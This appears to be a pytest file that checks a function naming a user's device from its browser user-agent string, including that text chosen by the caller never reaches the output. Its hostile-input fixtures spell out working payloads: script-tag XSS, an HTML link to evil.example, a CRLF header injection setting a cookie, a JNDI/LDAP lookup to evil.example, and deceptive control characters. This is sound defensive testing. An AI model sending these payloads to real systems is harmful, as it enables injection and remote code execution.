"""Devices: a person knows theirs again in our own words, and nobody else's words are shown."""

import pytest

from gatehouse.accounts.devices import UNKNOWN, device

_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_APPLE = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64"
_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
_LINUX = "Mozilla/5.0 (X11; Linux x86_64"
_ANDROID = "Mozilla/5.0 (Linux; Android 10; K)"
_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)"
_IPAD = "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X)"

KNOWN = {
    f"{_WINDOWS}; rv:126.0) Gecko/20100101 Firefox/126.0": "Firefox on Windows",
    f"{_LINUX}; rv:126.0) Gecko/20100101 Firefox/126.0": "Firefox on Linux",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:126.0) Gecko/20100101 Firefox/126.0": "Firefox on macOS",
    "Mozilla/5.0 (Android 14; Mobile; rv:126.0) Gecko/126.0 Firefox/126.0": "Firefox on Android",
    f"{_IPHONE} {_APPLE} FxiOS/126.0 Mobile/15E148 Safari/605.1.15": "Firefox on iPhone",
    f"{_WINDOWS}) {_WEBKIT} Chrome/125.0.0.0 Safari/537.36": "Chrome on Windows",
    f"{_MAC} {_WEBKIT} Chrome/125.0.0.0 Safari/537.36": "Chrome on macOS",
    f"{_LINUX}) {_WEBKIT} HeadlessChrome/125.0.0.0 Safari/537.36": "Chrome on Linux",
    f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {_WEBKIT} Chrome/125.0.0.0 Safari/537.36": "Chrome on ChromeOS",
    f"{_ANDROID} {_WEBKIT} Chrome/125.0.0.0 Mobile Safari/537.36": "Chrome on Android",
    f"{_IPHONE} {_APPLE} CriOS/125.0.6422.80 Mobile/15E148 Safari/604.1": "Chrome on iPhone",
    f"{_WINDOWS}) {_WEBKIT} Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0": "Edge on Windows",
    f"{_ANDROID} {_WEBKIT} Chrome/125.0.0.0 Mobile Safari/537.36 EdgA/124.0.0.0": "Edge on Android",
    f"{_IPHONE} {_APPLE} Version/17.0 EdgiOS/125.0.0.0 Mobile/15E148 Safari/604.1": "Edge on iPhone",
    f"{_WINDOWS}) {_WEBKIT} Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0": "Opera on Windows",
    f"{_ANDROID} {_WEBKIT} SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36": "Samsung Internet on Android",
    f"{_MAC} {_APPLE} Version/17.5 Safari/605.1.15": "Safari on macOS",
    f"{_IPHONE} {_APPLE} Version/17.5 Mobile/15E148 Safari/604.1": "Safari on iPhone",
    f"{_IPAD} {_APPLE} Version/17.5 Mobile/15E148 Safari/604.1": "Safari on iPad",
    "curl/8.5.0": "curl",
    "PostmanRuntime/7.39.0": "Postman",
    "insomnia/9.2.0": "Insomnia",
    "okhttp/4.12.0": "an Android app",
    "Shop/7 CFNetwork/1494.0.7 Darwin/23.4.0": "an Apple app",
    "python-requests/2.32.3": "a Python program",
    "Python/3.13 aiohttp/3.9.5": "a Python program",
    "node": "a Node.js program",
    "Go-http-client/2.0": "a Go program",
    "Java/21.0.3": "a Java program",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8)": "an unknown program on Android",
    "": UNKNOWN,
    "Wget/1.21.4": UNKNOWN,
}


@pytest.mark.parametrize(("user_agent", "called"), KNOWN.items())
def test_a_device_is_called_by_its_program_and_its_system(user_agent: str, called: str) -> None:
    assert device(user_agent) == called


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "link": '"><a href="https://evil.example">Firefox</a>',
    "line breaks": "Firefox\r\nSet-Cookie: a=b",
    "control characters": "\x00\x1b[31mWindows",
    "right to left": "\u202eswodniW Firefox",
    "lone surrogate": "\ud800 Firefox on Windows",
    "a letter": "Your account is closed: call +1 555 0100 (Windows) Firefox",
    "template": "{until} %s ${jndi:ldap://evil.example} Chrome",
    "long": "Firefox Windows " * 10_000,
}
OURS = frozenset({"Firefox", "Firefox on Windows", "Chrome", UNKNOWN, "an unknown program on Windows"})


@pytest.mark.parametrize("user_agent", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_text_that_a_caller_chose_is_in_the_name_of_their_device(user_agent: str) -> None:
    assert device(user_agent) in OURS
